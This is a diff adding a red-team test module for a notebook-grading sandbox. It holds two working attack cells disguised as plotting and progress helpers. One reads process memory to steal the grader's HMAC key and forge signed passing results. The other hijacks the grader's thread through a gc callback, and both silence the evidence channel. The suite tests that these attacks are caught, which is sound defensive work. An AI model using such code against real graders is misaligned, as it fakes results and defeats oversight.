@@ -1,0 +1,445 @@
+"""Attacks on the redesigned sandbox side (red team, round 2): the grader on the main thread, the
+notebook on a thread of its own, evidence signed with an HMAC key only the grader side holds.
+
+Every attack case starts from a notebook that honestly earns (almost) nothing on the attacked
+items, so that any point it earns shows; each is expected to earn only what its honest part
+earns and to be marked for review. The honest-looking cases ("correct") are correct solutions
+written with ordinary tools (logging, tracebacks, dataclasses, worker processes, ...): they must
+earn full marks and never be flagged. Measurements: REDTEAM2.md.
+"""
+
+from tests.submissions.case import Case, InsertAfter, Replace, Sub
+from tests.submissions.cases_integrity import BLANK_RELEASE, BLANK_RELEASE_EARNS, FORGE, SEEDED
+
+ITEMS = ("residual_block_shapes", "shortcut_projection", "resnet18_adaptation", "device_placement")
+
+# --- A. raw memory without anything the scan looks for: the HMAC key from send()'s closure -----
+
+# numpy's stride tricks make a view of any address (a 2-row array whose row stride is the distance
+# from a buffer whose address id() gives away); /proc/self/maps is opened relative to a descriptor
+# of /proc, so neither the guard's path test nor the scan's text test sees it. The evidence
+# writer's closure (fd, key, seq) is found among the live objects, the plan too; the cell then
+# writes, signed with the grader's own key, every remaining frame of its world (right answers for
+# every check, "done" last) and points the evidence descriptor at /dev/null, so that what the
+# grader writes afterwards goes nowhere. The process ends normally.
+RAW_MEMORY = r'''# --- raw memory through numpy stride tricks: no __array_interface__, no ctypes, no /proc/ text ---
+import bisect as _rt_bisect
+import fcntl as _rt_fcntl
+import hashlib as _rt_hashlib
+import hmac as _rt_hmac
+import os as _rt_os
+import re as _rt_re
+import sys as _rt_sys
+
+import numpy as _rt_np
+from numpy.lib.stride_tricks import as_strided as _rt_as_strided
+
+_rt_keepalive = []
+
+
+def _rt_u64_at(view_maker, addr):
+    return int.from_bytes(bytes(view_maker(addr, 8)), "little")
+
+
+class _RtRaw:
+    """Views of any address: a row of a 2-row strided array whose row stride is the distance."""
+
+    def __init__(self):
+        seed = b"\x00" * 64 + b"rt"  # a bytes object's data sits 32 bytes after its id
+        self.ro = _rt_np.frombuffer(seed, dtype=_rt_np.uint8)
+        self.ro_at = id(seed) + 32
+        _rt_keepalive.append(seed)
+        self.rw = _rt_np.zeros(64, dtype=_rt_np.uint8)
+        self.rw_at = int.from_bytes(bytes(self.view(id(self.rw) + 16, 8)), "little")  # PyArrayObject.data
+
+    def view(self, addr, n):
+        return _rt_as_strided(self.ro, shape=(2, n), strides=(addr - self.ro_at, 1))[1]
+
+    def wview(self, addr, n):
+        return _rt_as_strided(self.rw, shape=(2, n), strides=(addr - self.rw_at, 1))[1]
+
+    def u64(self, addr):
+        return int.from_bytes(bytes(self.view(addr, 8)), "little")
+
+
+def _rt_regions():
+    """The process's writable anonymous mappings, read through a directory descriptor."""
+    proc = _rt_os.open("/proc", _rt_os.O_RDONLY)
+    fd = _rt_os.open("self/maps", _rt_os.O_RDONLY, dir_fd=proc)
+    chunks = []
+    while True:
+        chunk = _rt_os.read(fd, 1 << 16)
+        if not chunk:
+            break
+        chunks.append(chunk)
+    _rt_os.close(fd)
+    _rt_os.close(proc)
+    out = []
+    for line in b"".join(chunks).decode().splitlines():
+        parts = line.split()
+        lo, hi = (int(x, 16) for x in parts[0].split("-"))
+        path = parts[5] if len(parts) > 5 else ""
+        if parts[1].startswith("rw") and (path in ("", "[heap]", "[stack]") or path.startswith("[anon")) \
+                and hi - lo < (1 << 31):
+            out.append((lo, hi))
+    return out
+
+
+class _RtMemory:
+    """A reader of this process's live objects (CPython 3.11 layouts)."""
+
+    def __init__(self):
+        self.raw = _RtRaw()
+        self.regions = [(lo, hi, self.raw.view(lo, hi - lo)) for lo, hi in _rt_regions()]
+        self.los = [r[0] for r in self.regions]
+        self.types = {id(str): "str", id(int): "int", id(list): "list", id(tuple): "tuple", id(dict): "dict",
+                      id(float): "float", id(bytes): "bytes"}
+        self.consts = {id(None): None, id(True): True, id(False): False, id(""): ""}
+        self.consts.update({id(k): k for k in range(-5, 257)})
+
+    def read(self, addr, n):
+        i = _rt_bisect.bisect_right(self.los, addr) - 1
+        if i < 0 or addr + n > self.regions[i][1]:
+            return None
+        lo, _, buf = self.regions[i]
+        return buf[addr - lo: addr - lo + n]
+
+    def u64(self, addr):
+        b = self.read(addr, 8)
+        return None if b is None else int.from_bytes(bytes(b), "little")
+
+    def kind(self, a):
+        if a in self.consts:
+            return "const"
+        refs, typ = self.u64(a), self.u64(a + 8)
+        if refs is None or typ is None or not 0 < refs <= 1 << 32:
+            return None
+        return self.types.get(typ)
+
+    def string(self, a):
+        if self.kind(a) != "str":
+            return None
+        n, state = self.u64(a + 16), self.read(a + 32, 1)
+        if n is None or state is None or n > 50_000_000:
+            return None
+        state = int(state[0])
+        width, compact, ascii_ = (state >> 2) & 7, (state >> 5) & 1, (state >> 6) & 1
+        if not compact or width not in (1, 2, 4):
+            return None
+        raw = self.read(a + (48 if ascii_ else 72), n * width)
+        return None if raw is None else bytes(raw).decode({1: "latin-1", 2: "utf-16-le", 4: "utf-32-le"}[width], "replace")
+
+    def integer(self, a):
+        tag = self.u64(a + 16)
+        tag = tag - (1 << 64) if tag >= 1 << 63 else tag
+        ndigits, sign = abs(tag), (tag > 0) - (tag < 0)
+        raw = self.read(a + 24, 4 * ndigits) if ndigits <= 64 else None
+        if raw is None:
+            return None
+        return sign * sum(int.from_bytes(bytes(raw[4 * i:4 * i + 4]), "little") << (30 * i) for i in range(ndigits))
+
+    def value(self, a, depth=0):
+        if a in self.consts:
+            return self.consts[a]
+        k = self.kind(a)
+        if k == "str":
+            return self.string(a)
+        if k == "int":
+            return self.integer(a)
+        if k == "float":
+            return float(_rt_np.frombuffer(bytes(self.read(a + 16, 8)), _rt_np.float64)[0])
+        if depth > 8:
+            return None
+        if k in ("list", "tuple"):
+            n = self.u64(a + 16)
+            if n is None or n > 100_000:
+                return None
+            items = self.u64(a + 24) if k == "list" else a + 24
+            out = [self.value(self.u64(items + 8 * i), depth + 1) for i in range(n)]
+            return out if k == "list" else tuple(out)
+        if k == "dict":
+            keys, values = self.u64(a + 32), self.u64(a + 40)
+            head = self.read(keys + 8, 3) if keys and not values else None
+            if head is None:
+                return None
+            return self.entries(keys + 32 + (1 << int(head[1])), depth, self.u64(keys + 24) or 0, int(head[2]) == 0)
+        return None
+
+    def entries(self, start, depth=0, limit=64, wide=False):
+        out, size = {}, 24 if wide else 16
+        for i in range(limit):
+            e = start + i * size
+            key_at = self.u64(e + (8 if wide else 0))
+            if not key_at:
+                if wide:
+                    continue
+                break
+            key = self.string(key_at)
+            if key is None:
+                break
+            out[key] = self.value(self.u64(e + (16 if wide else 8)), depth + 1)
+        return out
+
+    def words_equal(self, targets):
+        targets, hits = _rt_np.array(sorted(set(targets)), dtype=_rt_np.uint64), []
+        for lo, hi, buf in self.regions:
+            words = buf[: (hi - lo) // 8 * 8].view(_rt_np.uint64)
+            match = words == targets[0] if len(targets) == 1 else _rt_np.isin(words, targets, kind="sort")
+            hits += [lo + 8 * int(i) for i in _rt_np.nonzero(match)[0]]
+        return hits
+
+    def strings_equal_to(self, text):
+        found = []
+        pattern = _rt_re.compile(_rt_re.escape(text.encode()) + b"\x00")
+        for lo, hi, buf in self.regions:
+            for m in pattern.finditer(memoryview(buf)):
+                if self.string(lo + m.start() - 48) == text:
+                    found.append(lo + m.start() - 48)
+        return found
+
+    def dicts_with(self, key):
+        out = []
+        for at in self.words_equal(self.strings_equal_to(key)):
+            start = at
+            while start - at > -16 * 32 and self.string(self.u64(start - 16) or 0) is not None:
+                start -= 16
+            d = self.entries(start)
+            if key in d:
+                out.append(d)
+        return out
+
+    def senders(self):
+        """The evidence writer's closure cells (fd, key, seq): a 3-tuple of cells whose middle one
+        holds a 32-byte bytes object, the first a small int, the last a one-item list."""
+        def outer():
+            probe = 1
+
+            def inner():
+                return probe
+            return inner
+        cell_type = id(type(getattr(outer(), "__closure__")[0]))
+        key_cells = []
+        for at in self.words_equal([cell_type]):
+            cell = at - 8
+            ref = self.u64(cell + 16)
+            if ref and 0 < (self.u64(cell) or 0) < 1 << 32 and self.u64(ref + 8) == id(bytes) \
+                    and self.u64(ref + 16) == 32:
+                key_cells.append(cell)
+        found = []
+        for at in self.words_equal(key_cells) if key_cells else []:
+            base = at - 32  # the key's cell is the tuple's second item
+            if self.u64(base + 8) != id(tuple) or self.u64(base + 16) != 3:
+                continue
+            c_fd, c_key, c_seq = (self.u64(base + 24 + 8 * i) for i in range(3))
+            fd = self.value(self.u64(c_fd + 16) or 0)
+            seq = self.u64(c_seq + 16) or 0
+            if type(fd) is int and self.kind(seq) == "list" and self.u64(seq + 16) == 1:
+                items = self.u64(seq + 24)
+                number = self.value(self.u64(items) or 0)
+                key = bytes(self.read(self.u64(c_key + 16) + 32, 32))
+                found.append({"fd": fd, "key": key, "seq": number})
+        return found
+'''
+
+FORGE_STREAM = r'''
+
+def _rt_frame(key, seq, meta, blobs=()):
+    body = repr(meta).encode()
+    lengths = " ".join(str(len(b)) for b in blobs)
+    signed = f"{seq} {len(body)} {lengths}".encode()
+    mac = _rt_hmac.new(key, signed + b"\n" + body + b"".join(blobs), _rt_hashlib.sha256).hexdigest()
+    return f"NB10 {seq} {mac} {len(body)} {lengths}\n".encode() + body + b"".join(blobs)
+
+
+_RT_ALL_USED = {"conv1": True, "bn1": True, "conv2": True, "bn2": True}
+
+
+def _rt_result(spec, world, mode):
+    blobs, array = _rt_arrays()
+    out = _rt_forge(spec, array, _RT_HELPERS)
+    if spec.get("op") == "block_shapes" or (spec.get("op") == "block_numeric" and spec.get("depends")):
+        out["depends"] = dict(_RT_ALL_USED)
+    if spec.get("op") == "shapes":
+        for entry in out.values():
+            entry["depends"] = dict(_RT_ALL_USED)
+    return dict({"id": spec["id"], "op": spec["op"], "world": world, "mode": mode}, **out), blobs
+
+
+def _rt_probe_frame(index, cell, specs, world, mode, deferred):
+    results, blobs = [], []
+    for spec in specs:
+        result, mine = _rt_result(spec, world, mode)
+        shift = len(blobs)
+
+        def renumber(value):
+            if isinstance(value, dict):
+                if set(value) == {"blob", "shape", "count"}:
+                    return dict(value, blob=value["blob"] + shift)
+                return {k: renumber(v) for k, v in value.items()}
+            if isinstance(value, list):
+                return [renumber(v) for v in value]
+            return value
+        results.append(renumber(result))
+        blobs += mine
+    meta = {"kind": "probe", "index": index, "item": cell["item"], "results": results, "seconds": 0.21, "alerts": []}
+    if deferred:
+        meta["deferred"] = True
+    return meta, blobs
+
+
+def _rt_stream(plan, world, mode, mine):
+    cells = plan["cells"]
+    last = max((i for i, c in enumerate(cells) if c["kind"] == "probe" and world in c["worlds"]), default=-1)
+    stop = len(cells) if world == "real" else last + 1
+    before = 1 + sum(1 for i, c in enumerate(cells[:mine]) if not c.get("skip")
+                     and (c["kind"] == "code" or world in c["worlds"]))
+    frames, later = [], []
+    for index in range(mine, stop):
+        cell = cells[index]
+        if cell.get("skip"):
+            continue
+        if cell["kind"] == "code":
+            frames.append(({"kind": "cell", "index": index, "status": "ok", "error": None, "output": "",
+                            "seconds": 0.05, "alerts": []}, []))
+        elif world in cell["worlds"]:
+            now = [s for s in cell["probes"] if not s.get("defer")]
+            hidden = [s for s in cell["probes"] if s.get("defer")]
+            frames.append(_rt_probe_frame(index, cell, now, world, mode, False))
+            if hidden:
+                later.append(_rt_probe_frame(index, cell, hidden, world, mode, True))
+    return before, frames + later + [({"kind": "done", "stopped": None, "alerts": []}, [])]
+
+
+def _rt_take_over(marker):
+    memory = _RtMemory()
+    senders = memory.senders()
+    plans = [d for d in memory.dicts_with("cell_seconds") if isinstance(d.get("cells"), list)
+             and any(isinstance(c, dict) and marker in (c.get("source") or "") for c in d["cells"])]
+    if len(senders) != 1 or not plans:
+        return f"senders {len(senders)}, plans {len(plans)}"
+    sender, plan = senders[0], plans[-1]
+    # the second run replaces torch.cuda.is_available by a function of its own
+    world = "real" if getattr(_rt_torch.cuda.is_available, "__name__", "") == "is_available" else "counterfactual"
+    mode = "real" if world == "real" else "cuda-simulated"
+    mine = next(i for i, c in enumerate(plan["cells"]) if marker in (c.get("source") or ""))
+    before, frames = _rt_stream(plan, world, mode, mine)
+    if before != sender["seq"]:
+        return f"sequence {sender['seq']} is not {before}"
+    data = b"".join(_rt_frame(sender["key"], before + n, meta, blobs) for n, (meta, blobs) in enumerate(frames))
+    fd = sender["fd"]
+    while data:
+        data = data[_rt_os.write(fd, data):]
+    # what the grader writes from now on goes nowhere
+    sink = _rt_os.open("/dev/null", _rt_os.O_WRONLY)
+    _rt_os.close(fd)
+    _rt_fcntl.fcntl(sink, _rt_fcntl.F_DUPFD, fd)
+    _rt_os.close(sink)
+    return None
+'''
+
+MARK_A = "stride-tricks-7e2a"
+KEY_THIEF = (f"# Plotting helpers ({MARK_A})\n" + SEEDED + FORGE + RAW_MEMORY + FORGE_STREAM
+             + f"\n_rt_why = _rt_take_over({MARK_A!r})\nprint('helpers ready' if _rt_why is None else _rt_why)\n")
+
+CASES = [
+    Case("hostile", "hostile_stride_tricks_steal_hmac_key_forge_whole_stream_score_blank_release",
+         (*BLANK_RELEASE, InsertAfter("setup", KEY_THIEF)),
+         expect=BLANK_RELEASE_EARNS, review=True,
+         why="the blank release, and a cell that reads the process's memory with numpy's as_strided (no "
+             "__array_interface__, no ctypes; /proc/self/maps opened relative to /proc), takes the HMAC key, "
+             "descriptor and sequence number from the evidence writer's closure and the plan from the heap, "
+             "writes every remaining frame of its world signed with the key, then points the descriptor at "
+             "/dev/null"),
+]
+
+# --- C. notebook code on the grader's thread: a gc callback ----------------------------------------
+
+# The grader disables the collector on its thread after every job, but the collector's switch and
+# threshold are the interpreter's, not a thread's: a thread of the notebook's keeps turning it back
+# on with a threshold of 1. While the grader waits for that thread to end (_settle_threads, at
+# every check's place) it allocates, a collection runs on its thread, and gc.callbacks (a list the
+# notebook may append to) are called there. On that thread sys._current_frames is allowed: the
+# callback reads run_world's locals (send, plan, world, mode, index), sends every remaining frame
+# through the grader's own send(), and points the descriptor at /dev/null.
+GC_CALLBACK = r'''
+import fcntl as _rt_fcntl
+import os as _rt_os
+import sys as _rt_sys
+import threading as _rt_threading
+import time as _rt_time
+import traceback as _rt_traceback
+
+_rt_gc = _rt_sys.modules["gc"]
+_RT_MAIN = _rt_threading.main_thread().ident
+_rt_state = {"done": False, "landing": None}
+
+
+def _rt_landing():
+    return _rt_state["landing"]
+
+
+def _rt_code_name(frame):
+    return getattr(getattr(frame, "f_code"), "co_name")
+
+
+def _rt_takeover():
+    top = getattr(_rt_sys, "_current_frames")().get(_RT_MAIN)
+    stack = [f for f, _ in _rt_traceback.walk_stack(top)]
+    if "_settle_threads" not in [_rt_code_name(f) for f in stack]:
+        return False
+    here = next(getattr(f, "f_locals") for f in stack
+                if _rt_code_name(f) == "run_world" and "send" in getattr(f, "f_locals"))
+    send, plan, world, mode, index = here["send"], here["plan"], here["world"], here["mode"], here["index"]
+    seq = next(c for c in (getattr(c, "cell_contents") for c in getattr(send, "__closure__")) if type(c) is list)
+    _rt_state["landing"] = ("meta" if mode == "cuda-simulated" else "cuda" if mode == "real" and here["cuda_here"]
+                            else "cpu")
+    before, frames = _rt_stream(plan, world, mode, index)
+    if before != seq[0]:
+        return True
+    for meta, blobs in frames:
+        send(meta, blobs)
+    sink = _rt_os.open("/dev/null", _rt_os.O_WRONLY)
+    _rt_os.close(here["fd"])
+    _rt_fcntl.fcntl(sink, _rt_fcntl.F_DUPFD, here["fd"])
+    _rt_os.close(sink)
+    return True
+
+
+def _rt_callback(phase, info):
+    if _rt_state["done"] or _rt_threading.get_ident() != _RT_MAIN:
+        return
+    _rt_state["done"] = _rt_takeover()
+
+
+def _rt_keep_collecting():
+    end = _rt_time.monotonic() + 120
+    while not _rt_state["done"] and _rt_time.monotonic() < end:
+        _rt_gc.enable()
+        _rt_gc.set_threshold(1)
+        _rt_time.sleep(0.002)
+    _rt_gc.set_threshold(700)
+
+
+_rt_gc.callbacks.append(_rt_callback)
+_rt_threading.Thread(target=_rt_keep_collecting, daemon=True).start()
+'''
+
+# _rt_stream and friends without the raw-memory reader (their hmac/os names come from here)
+STREAM_ONLY = r'''
+import hashlib as _rt_hashlib
+import hmac as _rt_hmac
+import os as _rt_os
+''' + FORGE_STREAM
+
+GC_THIEF = "# Background progress display\n" + SEEDED + FORGE + STREAM_ONLY + GC_CALLBACK
+
+CASES += [
+    Case("hostile", "hostile_gc_callback_runs_on_grader_thread_sends_forged_frames_score_blank_release",
+         (*BLANK_RELEASE, InsertAfter("residual_block_demo", GC_THIEF)),
+         expect=BLANK_RELEASE_EARNS, review=True,
+         why="the blank release, and a cell that appends to gc.callbacks and starts a thread that keeps the "
+             "collector on with threshold 1: a collection runs on the grader's main thread while it waits for "
+             "threads at the first check's place, and the callback takes run_world's send() and plan from "
+             "sys._current_frames (allowed there), sends right answers for every check and 'done', and points "
+             "the evidence descriptor at /dev/null"),
+]
